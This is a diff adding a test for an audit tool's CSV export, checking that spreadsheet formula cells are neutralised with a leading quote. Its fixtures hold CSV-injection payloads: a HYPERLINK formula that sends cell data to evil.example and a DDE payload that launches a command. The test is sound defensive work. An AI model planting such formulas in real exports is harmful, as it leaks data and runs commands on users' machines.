@@ -195,6 +195,47 @@ def test_auditbot_export_writes_the_csv(tmp_path, monkeypatch, capsys):
     assert main(["export", "--weeks", "0", "--out", "x.csv"]) == 2
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details on the dose error")'
+
+
+def test_auditbot_export_neutralizes_cells_a_spreadsheet_would_run(tmp_path, monkeypatch):
+    database = tmp_path / "auditbot.db"
+    engine = make_engine(f"sqlite:///{database}")
+    upgrade(engine)
+    workspace = make_workspace()
+    trainers, task_types = roster_from_workspace(workspace)
+    today = datetime.now(UTC)
+    records = week_of_records(today, count=2)
+    records[0]["id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    records[1]["id"] = "-2+3"
+    with Session(engine) as session:
+        ingest(session, records_from_json_array(records), known_trainers=trainers,
+               known_task_types=task_types, now=today)
+        plan_weekly_audit(session, workspace, now=today)
+        session.commit()
+        first, second = session.exec(select(Sample).order_by(Sample.id)).all()
+        record_grade(session, workspace, sample_id=first.id or 0, reviewer=NURSE,
+                     grade="major", category="Unsafe advice", explanation=FORMULA, now=today)
+        record_grade(session, workspace, sample_id=second.id or 0, reviewer=NURSE,
+                     grade="minor", category="Unsafe advice",
+                     explanation="+ Recommends a dose above the stated maximum.", now=today)
+        session.commit()
+    engine.dispose()
+    (tmp_path / "auditbot.toml").write_text(_toml())
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{database}")
+    monkeypatch.setenv("AUDITBOT_CONFIG", str(tmp_path / "auditbot.toml"))
+    assert main(["export", "--weeks", "1", "--out", "grades.csv"]) == 0
+    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as written:
+        rows = list(csv.DictReader(written))
+    by_output = {r["output_id"]: r for r in rows}
+    assert set(by_output) == {"'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"}
+    assert by_output["'@SUM(1+1)*cmd|' /C calc'!A0"]["explanation"] == f"'{FORMULA}"
+    assert by_output["'-2+3"]["explanation"] == "'+ Recommends a dose above the stated maximum."
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
 def _toml() -> str:
     return f"""
 [workspace]
